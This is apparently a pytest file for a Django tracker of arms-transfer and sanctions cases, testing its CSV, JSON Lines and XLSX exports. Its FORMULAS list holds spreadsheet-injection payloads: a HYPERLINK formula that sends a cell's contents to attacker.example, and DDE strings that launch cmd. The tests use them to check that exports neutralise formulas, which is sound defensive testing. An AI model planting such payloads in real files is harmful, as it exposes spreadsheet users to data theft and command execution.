"""The case list's exports, read back as a reader's program would: the CSV with csv,
the XLSX with openpyxl, JSON Lines with json."""

import csv
import io
import json
from datetime import date
from decimal import Decimal

import openpyxl
import pytest
from django.urls import reverse

from exchange.columns import COLUMNS, HEADERS, Vocabulary, form_data
from exchange.imports import cell_text
from tests import factories
from tracker.forms import CaseForm
from tracker.models import DatePrecision, IncidentType, SanctionsProvision, WeaponSystem

FORMATS = ["csv", "jsonl", "xlsx"]
NUMBERS = {"latitude", "longitude", "supporting sources", "refuting sources"}
NUMBERS |= {"suggested credibility"}


def export(client, format, query=None):
    return client.get(reverse("exchange:case_export", args=[format]), query or {})


def body(response):
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


def read(response, format):
    """The rows of an export, each a dict of header → cell as the file holds it."""
    assert response.status_code == 200
    content = body(response)
    if format == "csv":
        assert response["Content-Type"] == "text/csv; charset=utf-8"
        # Excel reads a CSV as UTF-8 only after a byte order mark.
        assert content.startswith(b"\xef\xbb\xbf")
        reader = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))
        headers = next(reader)
        assert headers == HEADERS
        return [dict(zip(headers, row, strict=True)) for row in reader]
    if format == "jsonl":
        lines = content.decode().splitlines()
        rows = [json.loads(line) for line in lines]
        assert all(list(row) == HEADERS for row in rows)
        return rows
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert values[0] == HEADERS
    # No cell of the data is a formula.
    assert all(cell.data_type != "f" for row in sheet.iter_rows(min_row=2) for cell in row)
    return [
        {h: "" if v is None else v for h, v in zip(HEADERS, row, strict=True)} for row in values[1:]
    ]


def as_text(header, value):
    """A cell as the CSV writes it, to compare the three formats' cells."""
    if header in NUMBERS and value != "":
        return str(Decimal(str(value)).normalize())
    return str(value)


@pytest.fixture
def documented_case(case_factory, settings):
    settings.SITE_URL = "https://tracker.example.org"
    case = case_factory(
        "approved",
        title="Shells by rail, from Rajin",
        external_id="UA-MON-0042",
        incident_type=IncidentType.MUNITIONS_SHIPMENT,
        incident_start=date(2024, 1, 20),
        date_precision=DatePrecision.MONTH,
        place_name="Kharkiv",
        country="UA",
        latitude=Decimal("49.993500"),
        longitude=Decimal("-36.230400"),
        reported_quantity="about 6,700 containers",
    )
    case.weapon_systems.set(
        [WeaponSystem.objects.create(name=name) for name in ("KN-23", "Hwasong-11")]
    )
    case.sanctions_provisions.set(
        [
            SanctionsProvision.objects.create(resolution="1718 (2006)", paragraph="8 (a)"),
            SanctionsProvision.objects.create(resolution="2270 (2016)", paragraph=""),
        ]
    )
    return case


def test_the_csv_holds_every_column_of_a_case(client, documented_case, monitor):
    case = documented_case
    client.force_login(monitor)
    [row] = read(export(client, "csv"), "csv")
    assert row == {
        "reference": case.reference,
        "external id": "UA-MON-0042",
        "title": "Shells by rail, from Rajin",
        "summary": case.summary,
        "incident type": "munitions_shipment",
        # Known to the month: the whole month, and the precision that says so.
        "incident start": "2024-01-01",
        "incident end": "2024-01-31",
        "date precision": "month",
        "incident date": "January 2024",
        "place": "Kharkiv",
        "latitude": "49.993500",
        "longitude": "-36.230400",
        "country": "UA",
        "supplier": "KP",
        "recipient": "RU",
        "weapon systems": "Hwasong-11; KN-23",
        "sanctions provisions": "UNSCR 1718 (2006), para. 8 (a); UNSCR 2270 (2016)",
        "reported quantity": "about 6,700 containers",
        "state": "approved",
        "supporting sources": "2",
        "refuting sources": "0",
        "suggested credibility": "1",
        "created by": "monitor",
        "created at": case.created_at.isoformat(timespec="seconds"),
        "link": f"https://tracker.example.org/cases/{case.pk}/",
    }


@pytest.mark.parametrize("format", ["jsonl", "xlsx"])
def test_json_lines_and_xlsx_hold_what_the_csv_holds(client, documented_case, monitor, format):
    client.force_login(monitor)
    [expected] = read(export(client, "csv"), "csv")
    [row] = read(export(client, format), format)
    assert {h: as_text(h, v) for h, v in row.items()} == {
        h: as_text(h, v) for h, v in expected.items()
    }
    # Numbers are numbers in both, a negative longitude too.
    assert isinstance(row["longitude"], float) and row["longitude"] == -36.2304
    assert isinstance(row["supporting sources"], int)


def test_an_exported_row_imports_back_into_the_same_case_form(client, documented_case, monitor):
    case = documented_case
    client.force_login(monitor)
    [row] = read(export(client, "csv"), "csv")
    form = CaseForm(form_data(row, Vocabulary.load()))
    assert form.is_valid(), form.errors
    for name in CaseForm.Meta.fields:
        value = getattr(case, name)
        if name in ("weapon_systems", "sanctions_provisions"):
            assert set(form.cleaned_data[name]) == set(value.all()), name
        else:
            assert form.cleaned_data[name] == value, name


def test_an_imported_name_it_does_not_know_is_refused_by_name(db):
    WeaponSystem.objects.create(name="KN-23")
    data = form_data({"weapon systems": "kn-23; Hwasong-99"}, Vocabulary.load())
    assert data["weapon_systems"][0] == WeaponSystem.objects.get().pk
    form = CaseForm(data)
    assert not form.is_valid()
    assert "“Hwasong-99” is not a valid value." in form.errors["weapon_systems"]


def test_every_column_says_whether_an_import_reads_it():
    importable = {c.header: c.field for c in COLUMNS if not c.export_only}
    assert importable.pop("reference") is None
    assert set(importable.values()) == {*CaseForm.Meta.fields, "external_id"}


FORMULAS = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for the source")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\r=1+1",
]


@pytest.mark.parametrize("format", ["csv", "xlsx"])
@pytest.mark.parametrize("title", FORMULAS)
def test_spreadsheets_get_formulas_as_text(client, case_factory, monitor, title, format):
    case_factory(title=title, reported_quantity="-2 launchers", place_name="\tKharkiv")
    client.force_login(monitor)
    [row] = read(export(client, format), format)
    # XML reads a carriage return as a line feed; the quote comes first all the same.
    assert row["title"] == "'" + (title if format == "csv" else title.replace("\r", "\n"))
    assert row["reported quantity"] == "'-2 launchers"
    assert row["place"] == "'\tKharkiv"
    assert as_text("supporting sources", row["supporting sources"]) == "0"


def test_json_lines_keep_the_text_as_typed(client, case_factory, monitor):
    case_factory(title="=1+1")
    client.force_login(monitor)
    [row] = read(export(client, "jsonl"), "jsonl")
    assert row["title"] == "=1+1"


def test_an_imported_formula_reads_as_typed(client, case_factory, monitor):
    case_factory(title="=1+1")
    client.force_login(monitor)
    [row] = read(export(client, "csv"), "csv")
    assert row["title"] == "'=1+1"
    assert cell_text(row["title"], "title", quoted=True) == "=1+1"


def test_an_xlsx_export_survives_characters_xml_cannot_hold(client, case_factory, monitor):
    case_factory(title="Shells\x0cby rail")
    client.force_login(monitor)
    [row] = read(export(client, "xlsx"), "xlsx")
    assert row["title"] == "Shells\ufffdby rail"


@pytest.mark.parametrize("format", FORMATS)
def test_stakeholders_get_approved_cases_without_the_teams_names(
    client, case_factory, stakeholder, format
):
    approved = case_factory("approved")
    case_factory("submitted")
    case_factory("rejected")
    case_factory(created_by=factories.monitor("monitor3"))
    client.force_login(stakeholder)
    rows = read(export(client, format), format)
    assert [row["reference"] for row in rows] == [approved.reference]
    assert rows[0]["created by"] == ""


@pytest.mark.parametrize("format", FORMATS)
def test_an_export_holds_exactly_the_filtered_searched_sorted_list(
    client, case_factory, monitor, format
):
    for _ in range(3):
        case_factory(place_name="Kharkiv")
    late = case_factory("submitted", place_name="Kharkiv", incident_start=date(2024, 6, 1))
    early = case_factory("submitted", place_name="Kharkiv", incident_start=date(2023, 6, 1))
    case_factory("submitted", place_name="Bryansk")
    client.force_login(monitor)
    query = {"q": "Kharkiv", "state": "submitted", "sort": "date", "page": 3, "page_size": 25}
    rows = read(export(client, format, query), format)
    assert [row["reference"] for row in rows] == [early.reference, late.reference]


@pytest.mark.parametrize("format", FORMATS)
def test_an_export_costs_the_same_queries_for_3_cases_as_for_30(
    client, case_factory, monitor, format, django_assert_max_num_queries
):
    client.force_login(monitor)
    counts = {}
    for total in (3, 30):
        while len(factories.Case.objects.all()) < total:
            case = case_factory("submitted")
            case.weapon_systems.add(WeaponSystem.objects.get_or_create(name="KN-23")[0])
            factories.corroborate(case)
        # user, permissions, then the chunk: cases, weapon systems, provisions
        with django_assert_max_num_queries(6) as captured:
            rows = read(export(client, format), format)
        assert len(rows) == total
        counts[total] = len(captured)
    assert counts[3] == counts[30]


def test_a_filter_value_it_cannot_read_is_explained_and_exports_nothing(
    client, case_factory, monitor
):
    case_factory("submitted")
    client.force_login(monitor)
    response = export(client, "xlsx", {"incident_from": "2024-13-01"})
    assert response.status_code == 400
    assert "“2024-13-01” is not a date." in response.content.decode()


def test_a_format_it_does_not_know_is_not_found(client, monitor):
    client.force_login(monitor)
    assert export(client, "pdf").status_code == 404


def test_the_case_list_offers_the_three_formats_of_what_it_shows(client, case_factory, monitor):
    case_factory()
    client.force_login(monitor)
    html = client.get(reverse("tracker:case_list"), {"q": "Rajin"}).content.decode()
    for format in FORMATS:
        assert f'href="/cases/export.{format}?q=Rajin"' in html


def test_it_asks_for_sign_in(client, db):
    response = export(client, "csv")
    assert response.status_code == 302
    assert response.url.startswith(reverse("login"))
